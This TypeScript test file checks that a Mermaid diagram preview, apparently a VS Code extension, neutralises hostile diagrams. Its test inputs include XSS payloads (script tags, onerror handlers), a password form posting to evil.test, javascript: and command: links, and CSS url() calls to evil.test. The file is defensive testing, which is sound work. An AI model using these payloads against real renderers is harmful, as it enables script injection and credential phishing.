/** What a hostile diagram can do in the preview: nothing. Watched at the network, in both pages and on the clock. */
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import path from 'node:path';
import type { Browser } from 'playwright-core';
import { launchBrowser } from '../support/browser.ts';
import { pie } from './figures.ts';
import { Preview } from './preview.ts';
import { PreviewServer } from './previewServer.ts';

const hostileFolder = path.resolve(import.meta.dirname, '../../../shared/hostile');

/** A place through which every request must go that leaves this machine. */
async function startWatch(): Promise<{ readonly port: number; readonly seen: string[]; readonly server: Server }> {
  const seen: string[] = [];
  const server = createServer((request, response) => {
    seen.push(`${request.method ?? ''} ${request.url ?? ''}`);
    response.writeHead(502).end();
  });
  server.on('connect', (request, socket) => {
    seen.push(`CONNECT ${request.url ?? ''}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('the watch does not listen');
  return { port: address.port, seen, server };
}

describe('preview: safe', function () {
  this.timeout(180_000);
  let browser: Browser;
  let server: PreviewServer;
  let watch: Awaited<ReturnType<typeof startWatch>>;
  let preview: Preview;

  before(async () => {
    watch = await startWatch();
    const flags = [`--proxy-server=http://127.0.0.1:${watch.port}`];
    [browser, server] = await Promise.all([launchBrowser({ flags }), PreviewServer.start()]);
  });
  after(async () => {
    await browser.close();
    await server.stop();
    watch.server.closeAllConnections();
    watch.server.close();
  });
  afterEach(() => {
    watch.seen.length = 0;
  });

  const draw = async (text: string, type = 'flowchart-v2'): Promise<void> => {
    const shown = await preview.show([{ text, type }]);
    assert.deepEqual(shown.failures, []);
  };

  describe('our own attacks', () => {
    beforeEach(async () => {
      preview = await Preview.open(browser, server, { budget: 20_000 });
    });
    afterEach(async () => {
      assert.deepEqual(preview.errors, []);
      assert.deepEqual(preview.violations, []);
      assert.deepEqual(requestsOutside(watch.seen), []);
      assert.deepEqual(await leftovers(preview), []);
      await preview.close();
    });

    it('runs no script of a label', async () => {
      await draw(
        'flowchart LR\n  A["<script>xss()</script><img src=x onerror=xss()> label"] --> B["<b onclick=xss()>bold</b>"]',
      );
      await preview.page.locator('.picture b').click();
      assert.match(await preview.drawnText(), /label.*bold/);
    });

    it('keeps nothing of a form', async () => {
      await draw(
        'flowchart LR\n  A["<form action=http://evil.test><input name=password autofocus><button>Sign in</button></form> label"]',
      );
      assert.equal(await preview.page.evaluate(() => document.activeElement?.tagName), 'BODY');
    });

    it('leads nowhere: a link asks the host, and only if its scheme can be opened', async () => {
      await draw(
        [
          'flowchart LR',
          '  A["<a href=javascript:xss()>one</a>"] --> B["<a href=https://example.test/x>two</a>"]',
          '  C["<a href=command:workbench.action.quit>three</a>"] --> D[four]',
          '  click D "https://example.test/y"',
        ].join('\n'),
      );
      const links = preview.page.locator('.picture [data-link]');
      assert.deepEqual(await links.evaluateAll((found) => found.map((link) => link.getAttribute('data-link'))), [
        'https://example.test/x',
        'https://example.test/y',
      ]);
      await preview.page.getByText('one', { exact: true }).click();
      await preview.page.getByText('three', { exact: true }).click();
      await preview.page.getByText('two', { exact: true }).click();
      await preview.page.getByText('four', { exact: true }).click();
      const asked = preview.posted.flatMap((message) => (message.type === 'openLink' ? [message.href] : []));
      assert.deepEqual(asked, ['https://example.test/x', 'https://example.test/y']);
      assert.equal(new URL(preview.page.url()).pathname, '/');
    });

    it('opens a link with the keyboard too', async () => {
      await draw('flowchart LR\n  A[go]\n  click A "https://example.test/"');
      await preview.page.locator('[data-link]').focus();
      await preview.page.keyboard.press('Enter');
      assert.equal((await preview.said('openLink')).href, 'https://example.test/');
    });

    it('loads nothing for a style, and says how much it stopped', async () => {
      await draw(
        'flowchart LR\n  A["<span style=\'background:url(http://evil.test/a);--x:u\\72l(http://evil.test/b)\'>styled</span>"]',
      );
      await preview.page.getByText(/external references blocked/).waitFor();
      assert.doesNotMatch(await pictureMarkup(preview), /evil\.test/);
    });

    it('lets a picture cover nothing but its sheet', async () => {
      await draw('flowchart LR\n  A["<div style=\'position:fixed;inset:0;z-index:9999;background:red\'>cover</div>"]');
      const top = await preview.page.evaluate(() => document.elementFromPoint(60, 16)?.closest('.toolbar') !== null);
      assert.ok(top, 'the toolbar is still on top');
    });

    it('lets no diagram change what is protected', async () => {
      await draw(
        [
          '%%{init: {"securityLevel": "loose", "themeCSS": "* { outline: 9px solid red }", "fontFamily": "Evil", "secure": []}}%%',
          'flowchart LR',
          '  A["<img src=x onerror=xss()>label"]',
        ].join('\n'),
      );
      assert.doesNotMatch(await pictureMarkup(preview), /9px|Evil|onerror/);
    });

    for (const [limit, text, words] of [
      ['long texts', `flowchart LR\n${'  A --> B\n'.repeat(6_000)}`, 'Longer than 50000 characters'],
      ['long lines', `flowchart LR\n  A["${'x'.repeat(6_000)}"]`, 'Line 2 of the diagram is longer than 5000'],
      ['long styles', `flowchart LR\n  style A fill:#fff${',a:b'.repeat(300)}`, 'The style in line 2'],
      [
        'large numbers in a block diagram',
        'block\n  columns 99999\n  a',
        'Line 2 of the diagram has a number above 9999',
      ],
    ] as const) {
      it(`refuses ${limit} before Mermaid sees them`, async () => {
        await preview.show([{ text, type: 'flowchart-v2' }]);
        assert.ok((await preview.strips())[0]?.includes(words), (await preview.strips())[0]);
      });
    }

    it('believes no message that comes from a frame', async () => {
      await draw('flowchart LR\n  A[safe]');
      const frame = preview.page.frames().find((candidate) => candidate !== preview.page.mainFrame());
      assert.ok(frame !== undefined);
      await frame.evaluate(() => parent.postMessage({ type: 'nothing', seq: 9, reason: 'no-document' }, '*'));
      await draw('flowchart LR\n  B[still here]');
      assert.match(await preview.drawnText(), /still here/);
      assert.equal(await frame.evaluate(() => typeof Reflect.get(window, 'acquireVsCodeApi')), 'undefined');
      await assert.rejects(
        frame.evaluate(() => Reflect.get(parent, 'document') as unknown),
        /cross-origin|Blocked a frame/,
      );
      await assert.rejects(frame.evaluate(async () => (await fetch('/frame.js')).status));
    });
  });

  describe('the collected attacks', () => {
    const files = existsSync(hostileFolder)
      ? (JSON.parse(readFileSync(path.join(hostileFolder, 'manifest.json'), 'utf8')) as readonly {
          readonly file: string;
          readonly category: string;
        }[])
      : [];

    it('are there', function () {
      if (files.length > 0) return;
      console.log('      skipped: there is no ../shared/hostile beside the repository');
      this.skip();
    });

    for (const category of new Set(files.map((entry) => entry.category))) {
      it(`${category}: no script, no request, nothing to act on, and the panel never hangs`, async function () {
        this.timeout(900_000);
        const budget = 5_000;
        preview = await Preview.open(browser, server, { budget });
        await preview.show([pie]);
        await watchStalls(preview);
        const stalls: string[] = [];
        let ended = 0;
        for (const { file } of files.filter((entry) => entry.category === category)) {
          const text = readFileSync(path.join(hostileFolder, file), 'utf8');
          const before = preview.errors.length + requestsOutside(watch.seen).length + preview.violations.length;
          const shown = await preview.show([{ text }], 0, `${file}.md`);
          if (shown.failures.some(({ problem }) => problem.kind === 'timeout')) ended += 1;
          const stall = await takeStall(preview);
          if (stall > 300) stalls.push(`${file}: ${Math.round(stall)} ms`);
          assert.ok(stall < budget, `${file}: the panel stood still as long as a diagram may take`);
          const left = await leftovers(preview);
          const bad = [...preview.errors, ...requestsOutside(watch.seen), ...preview.violations];
          assert.equal(bad.length, before, `${file}: ${bad.join('; ')}`);
          assert.deepEqual(left, [], file);
        }
        if (ended > 0) console.log(`      ${ended} of them were ended after 5 s`);
        if (stalls.length > 0) console.log(`      the panel was late: ${stalls.join(', ')}`);
        assert.deepEqual((await preview.show([pie])).failures, [], 'the preview is alive afterwards');
        await preview.close();
      });
    }
  });
});

/** A request to this machine never goes to the watch; the browser's own calls home are not the page's. */
const requestsOutside = (seen: readonly string[]): readonly string[] =>
  seen.filter((line) => !/google|gstatic|gvt1/.test(line));

/** Whatever in the pictures could be acted on, load something or clash with the page. */
const leftovers = (preview: Preview): Promise<readonly string[]> =>
  preview.page.evaluate(() => {
    const interactive =
      'script, form, input, button, select, textarea, details, dialog, video, audio, iframe, object, embed, use, animate, set, feImage, [autofocus], [contenteditable], [popover], a[href], [*|href^="http"], [src^="http"]';
    const found: string[] = [];
    for (const host of document.querySelectorAll('.picture')) {
      for (const node of host.shadowRoot?.querySelectorAll('*') ?? []) {
        if (node.matches(interactive)) found.push(node.outerHTML.slice(0, 200));
        for (const { name, value } of node.attributes) {
          if (name.startsWith('on')) found.push(`${name}=${value}`);
          if (name !== 'data-link' && /url\(\s*["']?(?:https?:|\/\/)/i.test(value)) found.push(`${name}=${value}`);
          if (name === 'data-link' && !/^(?:https?|mailto):/i.test(value)) found.push(`${name}=${value}`);
        }
        if (node instanceof HTMLElement && (node.id !== '' || node.hasAttribute('name'))) found.push(node.outerHTML);
      }
      for (const style of host.shadowRoot?.querySelectorAll('style') ?? []) {
        if (/@import|@font-face|url\(\s*["']?(?!["']?#)/i.test(style.textContent)) found.push(style.textContent);
      }
    }
    if (Object.keys(Object.prototype).length > 0) found.push('Object.prototype was changed');
    return found;
  });

const pictureMarkup = (preview: Preview): Promise<string> =>
  preview.page.evaluate(() => document.querySelector('.picture')?.shadowRoot?.innerHTML ?? '');

/** Starts to measure by how many milliseconds the panel's own timer is late. */
const watchStalls = (preview: Preview): Promise<void> =>
  preview.page.evaluate(() => {
    const state = { last: performance.now(), worst: 0 };
    Reflect.set(window, 'stalls', state);
    setInterval(() => {
      const now = performance.now();
      state.worst = Math.max(state.worst, now - state.last - 20);
      state.last = now;
    }, 20);
  });

const takeStall = (preview: Preview): Promise<number> =>
  preview.page.evaluate(() => {
    const state = Reflect.get(window, 'stalls') as { worst: number };
    const { worst } = state;
    state.worst = 0;
    return worst;
  });
